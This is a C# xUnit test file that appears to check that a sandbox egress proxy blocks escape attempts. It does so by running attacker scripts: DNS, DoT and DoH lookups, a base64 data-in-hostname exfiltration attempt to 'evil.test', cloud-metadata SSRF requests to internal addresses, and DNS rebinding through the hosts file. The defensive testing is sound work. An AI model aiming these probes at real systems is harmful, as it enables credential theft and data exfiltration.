using Shouldly;
using Xunit;

namespace Centaur.EndToEnd.Egress.Attacks;

/// <summary>Ways out of a jail that lead inside, or around the record (invariant I5).</summary>
[Collection(AttackedCollection.Name)]
public sealed class AddressAttackTests(AttackedInstallation installation)
{
    /// <summary>Public, as far as a proxy can tell. Where there is no network it is found unreachable, and nothing is ever sent there.</summary>
    const string Public = "93.184.216.34";

    readonly Attacker attacker = new(installation);

    static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task F39_names_are_found_nowhere_and_resolvers_are_not_reached_through_the_proxy()
    {
        var found = await attacker.Try(
            """
            say("lookup", subprocess.run(["getent", "hosts", "api.vendor.test", "localhost.vendor.test"], capture_output=True).returncode)
            for name, target in {"dns": "1.1.1.1:53", "dot": "1.1.1.1:853", "doh": "dns.google:443", "alternate": "api.vendor.test:8443", "label": "c2VjcmV0." * 20 + "evil.test:443"}.items():
                answer = connect(target)
                say(name, verdict(answer) if isinstance(answer, str) else "open")
            """, Cancellation);

        found["lookup"].GetInt32().ShouldNotBe(0);
        found.Word("dns").ShouldBe("403 host_not_allowed");
        found.Word("dot").ShouldBe("403 host_not_allowed");
        found.Word("doh").ShouldBe("403 host_not_allowed");
        found.Word("alternate").ShouldBe("403 port_not_allowed");
        found.Word("label").ShouldBe("403 host_not_allowed");
        (await attacker.Refusals("dns.google", 1, Cancellation)).ShouldBe(["host_not_allowed"]);
    }

    [Fact]
    public async Task F40_no_spelling_of_an_inner_address_is_dialled_even_where_a_rule_names_it()
    {
        var hosts = string.Join(", ", AttackedInstallation.Forbidden.Concat(AttackedInstallation.Unnamed).Select(host => $"\"{host}\""));
        var found = await attacker.Try(
            $"""
            for host in [{hosts}]:
                for port in (80, {installation.BaitPort}):
                    stream = connect(f"{"{host}:{port}"}")
                    if isinstance(stream, str):
                        say(f"{"{host} {port}"}", verdict(stream))
                        continue
                    stream.sendall(f"GET /latest/meta-data/ HTTP/1.1\r\nHost: {"{host}:{port}"}\r\nConnection: close\r\n\r\n".encode())
                    say(f"{"{host} {port}"}", verdict(rest(stream)))
            """, Cancellation);

        found.Count.ShouldBe(2 * (AttackedInstallation.Forbidden.Length + AttackedInstallation.Unnamed.Length));
        found.Where(pair => pair.Value.GetString() != (pair.Key.StartsWith("localhost", StringComparison.Ordinal) ? "403 host_not_allowed" : "502 destination_ip_prohibited")).Select(pair => $"{pair.Key}: {pair.Value}").ShouldBeEmpty();
        installation.IsBitten.ShouldBeFalse();
        var causes = (await attacker.Records(record => record.Text("cause") == "destination_ip_prohibited", Cancellation)).Where(record => record.Text("kind") == "outcome" && record.Text("cause").Length > 0);
        causes.ShouldAllBe(record => record.Text("cause") == "destination_ip_prohibited");
    }

    [Fact]
    public async Task F40_a_name_whose_owner_leads_it_inside_afterwards_is_vetted_anew()
    {
        const string visit = $"""say("verdict", verdict(send("GET /f40 HTTP/1.1\r\nHost: {AttackedInstallation.Rebound}\r\nConnection: close\r\n\r\n", host="{AttackedInstallation.Rebound}")))""";
        foreach (var inside in (string[])["127.0.0.1", "169.254.169.254", "::1", "::ffff:10.0.0.1", $"{Public} {AttackedInstallation.Rebound}\n127.0.0.1"])
        {
            await File.WriteAllTextAsync(installation.HostsFile, $"{inside} {AttackedInstallation.Rebound}\n", Cancellation);

            (await attacker.Try(visit, Cancellation)).Word("verdict").ShouldBe("502 destination_ip_prohibited", inside);
        }

        await File.WriteAllTextAsync(installation.HostsFile, "127.0.0.1 localhost\n", Cancellation);
        (await attacker.Try(visit, Cancellation)).Word("verdict").ShouldBe("502 dns_error", "a name that leads nowhere is another thing");
    }
}
